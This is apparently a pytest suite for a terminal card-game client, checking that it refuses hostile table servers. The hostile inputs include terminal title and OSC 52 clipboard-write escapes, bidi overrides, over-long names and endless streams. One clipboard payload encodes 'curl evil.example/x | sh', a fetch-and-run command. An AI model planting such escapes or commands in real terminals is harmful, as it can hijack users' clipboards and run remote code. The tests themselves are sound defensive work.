"""A "table server" that a co-user runs in a directory of their own, and a client that trusts it
with nothing: names with terminal escapes (a window title, an OSC 52 clipboard write, a bidi
override), a name of 321 characters, an endless stream of legal lines. The client refuses each
with one line saying what (escaped), keeps no more of a table than a game file holds, and says
at connect when the server's directory is another account's.

The server here is a small asyncio Unix socket server in the test: it greets as a server does and
answers each request with whatever the test gives it.
"""

from __future__ import annotations

import asyncio
import contextlib
import json
import os
import pwd
import subprocess
import threading
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Any

import msgspec
import pytest

from dvtui.engine import CardPlaced, Game, GameCreated, PlacementUndone, new_game
from dvtui.play.seats import parse_players
from dvtui.store import MAX_FILE_BYTES, encode_line
from dvtui.tables import Diverged, ServerPlace, TableClient, list_tables
from dvtui.tables import received as received_module
from dvtui.tables.where import foreign_owner

from ..support.processes import dvtui
from ..support.servers import short_dir, wait_for
from ..support.terminals import Terminals

TITLE = "\x1b]0;PWNED-TITLE\x07"
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUveCB8IHNo\x07"  # base64 of "curl evil.example/x | sh"
RLO = "\u202e"
LONG = "E" * 321

Reply = Callable[[dict[str, Any]], Iterable[bytes]]
"""What the fake server sends in answer to one request (a generator may send forever)."""


def line(message: dict[str, Any]) -> bytes:
    return json.dumps(message).encode() + b"\n"


@contextlib.contextmanager
def fake_server(directory: Path, reply: Reply) -> Iterator[ServerPlace]:
    """A server on ``directory``'s socket that greets every client and answers with ``reply``."""

    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        with contextlib.suppress(ConnectionError, OSError):
            while request := await reader.readline():
                message = json.loads(request)
                answer = (
                    [line({"type": "welcome", "version": 1, "server": "0.1.0", "user": "victim"})]
                    if message["type"] == "hello" else reply(message)
                )  # fmt: skip
                for out in answer:
                    writer.write(out)
                    await writer.drain()  # a client that stops reading stops the stream
        writer.close()

    loop = asyncio.new_event_loop()
    stop = asyncio.Event()
    listening = threading.Event()

    async def main() -> None:
        server = await asyncio.start_unix_server(serve, path=str(directory / "dvtui.sock"))
        listening.set()
        async with server:
            await stop.wait()

    thread = threading.Thread(target=lambda: loop.run_until_complete(main()), daemon=True)
    thread.start()
    wait_for("the fake server to listen", listening.is_set)
    try:
        yield ServerPlace(directory, personal=False)
    finally:
        loop.call_soon_threadsafe(stop.set)
        thread.join(60)
        loop.close()


def created(names: str = "Ana,Bob,Cy") -> GameCreated:
    return new_game(parse_players(names), seed=1)


def with_name(game: GameCreated, seat: int, name: str) -> GameCreated:
    """``game`` with seat ``seat`` named ``name`` (what no game could be started with)."""
    players = list(game.players)
    players[seat] = msgspec.structs.replace(players[seat], name=name)
    return msgspec.structs.replace(game, players=players)


def seats(*names: str, stand_in: str | None = None) -> list[dict[str, Any]]:
    out: list[dict[str, Any]] = [{"seat": i, "name": n, "kind": "human", "state": "away"} for i, n in enumerate(names)]
    if stand_in is not None:
        out[0]["stand_in"] = stand_in
    return out


def table_lines(game: GameCreated, presence: list[dict[str, Any]]) -> Reply:
    """A server answering ``watch`` / ``join`` with ``game``'s first line, then ``presence``."""

    def reply(message: dict[str, Any]) -> list[bytes]:
        if message["type"] not in ("watch", "join"):
            return []
        seat = None if message["type"] == "watch" else 0
        joined = {"type": "joined", "table": message["table"], "next_seq": 0, "hints": True}
        if seat is not None:
            joined["seat"] = seat
        presence_line = {"type": "presence", "table": message["table"], "seats": presence, "spectators": 0}
        return [line(joined), encode_line(game, 0), line(presence_line)]

    return reply


def listing(info_seats: list[dict[str, Any]], **extra: Any) -> Reply:
    def reply(message: dict[str, Any]) -> list[bytes]:
        info = {"table": "demo", "seats": info_seats, "round": 1, "rounds": 6, "to_move": 0, **extra}
        return [line({"type": "tables", "tables": [info]})] if message["type"] == "list_tables" else []

    return reply


def watch(place: ServerPlace) -> TableClient:
    """Watch table ``demo`` until the client stops; returns the client (its last error raised)."""
    client = TableClient(place, "demo", watch=True)

    async def run() -> None:
        await client.connect()
        async for _ in client.updates():
            pass

    asyncio.run(run())
    return client


def _joined_game(message: dict[str, Any]) -> list[bytes]:
    """A sound answer to a watch: ``joined``, a game's first line, ``presence``."""
    return list(table_lines(created(), seats("Ana", "Bob", "Cy"))(message))


_PRESENCE = {"type": "presence", "table": "demo", "seats": seats("Ana", "Bob", "Cy")}
NAMED = "Ev" + TITLE + "il"
HOSTILE_TABLES = {
    "a title escape in a seat's name": (table_lines(created(), seats(NAMED, "Bob", "Cy")), "control character"),
    "an OSC 52 clipboard write as a stand-in": (
        table_lines(created(), seats("Ana", "Bob", "Cy", stand_in="greedy" + CLIPBOARD)),
        "stand_in is no bot level",
    ),
    "a bidi override in game_created": (
        table_lines(with_name(created(), 1, "Bob" + RLO), seats("Ana", "Bob", "Cy")),
        "control character",
    ),
    "a name of 321 characters in game_created": (
        table_lines(with_name(created(), 2, LONG), seats("Ana", "Bob", LONG)),
        "321 characters; at most 24",
    ),
    "a presence naming other seats than the game's": (
        table_lines(created(), seats("Ana", "Bob", "Mallory")),
        "seats are not the game's",
    ),
    "an error's message with an escape": (
        lambda m: [line({"type": "error", "code": "no_table", "message": "no table" + TITLE, "re": m["type"]})],
        "error.message holds a control character",
    ),
    "a line that is not the protocol": (lambda m: [b"\x1b[2J not JSON\n"], "a line that is not the protocol"),
    "a chat line with an escape": (
        lambda m: [line({"type": "said", "table": "demo", "user": "ana", "text": "hi" + TITLE, "at": "now"})],
        "said.text holds a control character",
    ),
    "a new game dealt before the game is over": (
        lambda m: [*_joined_game(m), line({"type": "dealt", "table": "demo", "game": 2})],
        "a new game dealt while the game is not over",
    ),
    "a rematch naming a seat the table has not": (
        lambda m: [*_joined_game(m)[:2], line({**_PRESENCE, "rematch": {"by": 0, "accepted": [0], "awaited": [7]}})],
        "presence.rematch names a seat the table has not",
    ),
}


@pytest.mark.parametrize("case", sorted(HOSTILE_TABLES))
def test_a_client_refuses_a_server_sending_what_no_game_may_hold(case: str) -> None:
    reply, why = HOSTILE_TABLES[case]
    with short_dir() as d, fake_server(d, reply) as place, pytest.raises(Diverged) as refused:
        watch(place)
    message = str(refused.value)
    assert message.startswith(f"the table server at {d} sent what no dvtui server sends: "), message
    assert why in message, message
    assert message.isprintable() and TITLE not in message and RLO not in message


@pytest.mark.parametrize(
    ("info_seats", "why"),
    [
        (seats("Ana", NAMED, "Cy"), "seats[1].name: the name 'Ev\\x1b]0;PWNED-TITLE\\x07il' holds a control"),
        (seats("Ana", "Bob", "Cy", stand_in="greedy" + CLIPBOARD), "seats[0].stand_in is no bot level"),
        (seats("Ana", LONG, "Cy"), "321 characters; at most 24"),
        (
            [*seats("Ana"), {**seats("Ana", "Bob")[1], "user": "root" + RLO}, *seats("Ana", "Bob", "Cy")[2:]],
            "seats[1].user holds a control",
        ),
    ],
)
def test_the_table_list_is_checked_and_the_command_says_why_in_one_line(
    info_seats: list[dict[str, Any]], why: str
) -> None:
    with short_dir() as d, fake_server(d, listing(info_seats)) as place:
        with pytest.raises(Diverged, match="sent what no dvtui server sends"):
            asyncio.run(list_tables(place))
        done = dvtui("tables", "--server", str(d))
    assert done.returncode == 1 and done.stdout == "", done
    [said] = done.stderr.splitlines()
    assert said.startswith(f"dvtui: error: the table server at {d} sent what no dvtui server sends: "), said
    assert why in said and "\x1b" not in said and RLO not in said


def test_a_list_whose_pages_do_not_move_on_is_refused_not_asked_for_again_and_again() -> None:
    """Each page of the list names the same last table and says there is more: the client stops
    at the second page instead of asking for the next one until it holds as many as it takes."""
    asked: list[dict[str, Any]] = []

    def reply(message: dict[str, Any]) -> list[bytes]:
        if message["type"] != "list_tables":
            return []
        asked.append(message)
        info = {"table": "demo", "seats": seats("Ana", "Bob", "Cy"), "round": 1, "rounds": 6, "to_move": 0}
        return [line({"type": "tables", "tables": [info], "more": True})]

    refused = pytest.raises(Diverged, match="a list of tables whose pages do not move on")
    with short_dir() as d, fake_server(d, reply) as place, refused:
        asyncio.run(list_tables(place))
    assert [message.get("after") for message in asked] == [None, "demo"]


def test_a_line_longer_than_the_protocols_is_said_in_one_line_never_an_internal_error() -> None:
    info = {"table": "t", "seats": seats("Ana", "Bob", "Cy"), "round": 1, "rounds": 6, "to_move": 0}
    huge = [line({"type": "tables", "tables": [info] * 1000})]  # many tables in one line, unpaged
    assert len(huge[0]) > 65536
    with short_dir() as d, fake_server(d, lambda m: huge if m["type"] == "list_tables" else []):
        done = dvtui("tables", "--server", str(d))
    assert done.returncode == 1 and done.stdout == "", done
    assert done.stderr == (
        f"dvtui: error: the table server at {d} sent what no dvtui server sends: "
        "a line longer than 65,536 bytes, the protocol's bound\n"
    )


def test_a_bot_client_refuses_a_hostile_table_in_one_line() -> None:
    hostile = table_lines(with_name(created(), 0, "Ana" + CLIPBOARD), seats("Ana", "Bob", "Cy"))
    with short_dir() as d, fake_server(d, hostile):
        done = dvtui("join", "demo", "--bot", "greedy", "--server", str(d))
    assert done.returncode == 1, done
    [said] = done.stderr.splitlines()
    assert "game_created: players[0].name: the name 'Ana\\x1b]52;c;" in said and "\x1b" not in said, said


def endless(sent: list[int]) -> Reply:
    """A table whose lines never end: a placement and its undo, again and again, each legal (the
    length of what was sent is counted in ``sent``)."""
    game = created()

    def reply(message: dict[str, Any]) -> Iterator[bytes]:
        if message["type"] != "watch":
            return
        yield line({"type": "joined", "table": "demo", "next_seq": 0})
        first = encode_line(game, 0)
        sent[0] += len(first)  # a game's lines: what the client counts against its bound
        yield first
        seq = 1
        card, column = Game(game).legal_placements()[0]
        while True:
            for event in (CardPlaced(round=1, player=0, column=column, card=card),
                          PlacementUndone(round=1, player=0, column=column, card=card)):  # fmt: skip
                out = encode_line(event, seq)
                sent[0] += len(out)
                seq += 1
                yield out

    return reply


def test_an_endless_stream_of_lines_is_refused_past_what_a_game_file_holds(monkeypatch: pytest.MonkeyPatch) -> None:
    assert received_module.MAX_GAME_BYTES == MAX_FILE_BYTES  # the bound is the reader's
    bound = 256 * 1024  # a smaller one here, so that the test does not stream 32 MiB
    monkeypatch.setattr(received_module, "MAX_GAME_BYTES", bound)
    sent = [0]
    with short_dir() as d, fake_server(d, endless(sent)) as place:
        client = TableClient(place, "demo", watch=True)

        async def run() -> None:
            await client.connect()
            async for _ in client.updates():
                pass

        with pytest.raises(Diverged, match=f"more than {bound} bytes of one table's lines"):
            asyncio.run(run())
    assert client.game_bytes <= bound < sent[0]
    assert len(client.events) < bound // 60  # every line is longer than 60 bytes


@pytest.mark.root
def test_a_server_in_another_accounts_directory_is_said_at_connect(
    other_user: pwd.struct_passwd, capsys: pytest.CaptureFixture[str]
) -> None:
    calm = listing(seats("Ana", "Bob", "Cy"))
    with short_dir() as mine, fake_server(mine, calm) as place:
        assert foreign_owner(place) is None  # one's own (or root's): nothing to say
        asyncio.run(list_tables(place))
        assert capsys.readouterr().err == ""
    with short_dir() as theirs:
        os.chown(theirs, other_user.pw_uid, other_user.pw_gid)
        with fake_server(theirs, calm) as place:
            assert foreign_owner(place) == other_user.pw_name
            for _ in range(2):  # said once, not at every connection
                [info] = asyncio.run(list_tables(place))
            assert info.table == "demo"
            assert capsys.readouterr().err == (
                f"dvtui: warning: {theirs} belongs to account {other_user.pw_name}, not to you or root: "
                "its table server is whatever that account runs there\n"
            )
            done = dvtui("tables", "--server", str(theirs))
    assert done.returncode == 0, done
    assert done.stderr.startswith(f"dvtui: warning: {theirs} belongs to account {other_user.pw_name}, "), done


@pytest.mark.root
def test_a_server_directory_an_administrator_set_up_for_another_account_is_not_warned_of(
    other_user: pwd.struct_passwd,
) -> None:
    """The set-up SHARED_TABLES.md recommends (a directory made by root for the server's account,
    in directories only root writes to): nobody else could have put it there, so no warning at
    each command. The same account's directory anyone could have made first is still said."""
    calm = listing(seats("Ana", "Bob", "Cy"))
    with short_dir() as root_made:
        os.chmod(root_made, 0o755)  # root's, in the sticky /tmp: nobody else may replace it
        srv = root_made / "srv"
        srv.mkdir(mode=0o750)
        os.chown(srv, other_user.pw_uid, other_user.pw_gid)
        with fake_server(srv, calm) as place:
            assert foreign_owner(place) is None
            done = dvtui("tables", "--server", str(srv))
            assert done.returncode == 0 and done.stderr == "", done
            os.chmod(root_made, 0o777)  # anybody may now replace srv: said again
            assert foreign_owner(place) == other_user.pw_name
            os.chmod(root_made, 0o755)
            os.chmod(srv, 0o770)  # the account's group may replace the socket: said too
            assert foreign_owner(place) == other_user.pw_name


@pytest.mark.tmux
def test_watching_a_hostile_server_in_a_terminal_drives_nothing(tmp_path: Path) -> None:
    """The attack end to end, as a person meets it: ``dvtui watch`` in tmux (with the clipboard on) at a
    server sending a title and a clipboard write in names; the pane's title and tmux's buffers
    stay as they were, and the pane says why it left."""
    hostile = table_lines(with_name(created(), 0, "Ev" + TITLE + CLIPBOARD + "il"), seats("Ana", "Bob", "Cy"))
    terminals = Terminals(tmp_path)
    try:
        terminals.run("first", "--version")  # the tmux server, to set its clipboard on before the victim runs
        subprocess.run([*terminals.tmux, "set-option", "-g", "set-clipboard", "on"], check=True)
        with short_dir() as d, fake_server(d, hostile):
            terminals.run("victim", "watch", "demo", "--server", str(d))
            wait_for("the watch to end", lambda: terminals.dead("victim"))
        title = subprocess.run([*terminals.tmux, "display-message", "-p", "-t", "victim", "#{pane_title}"],
                               capture_output=True, text=True, check=True).stdout  # fmt: skip
        buffers = subprocess.run([*terminals.tmux, "list-buffers"], capture_output=True, text=True, check=False)
        assert "PWNED" not in title and buffers.stdout == "", (title, buffers.stdout)
        said = subprocess.run([*terminals.tmux, "capture-pane", "-p", "-J", "-S", "-", "-t", "victim"],
                              capture_output=True, text=True, check=True).stdout  # fmt: skip
        assert (
            f"dvtui: error: the table server at {d} sent what no dvtui server sends: game_created: players[0]."
            "name: the name 'Ev\\x1b]0;PWNED-TITLE\\x07\\x1b]52;c'… is 60 characters; at most 24" in said
        ), said
    finally:
        terminals.close()
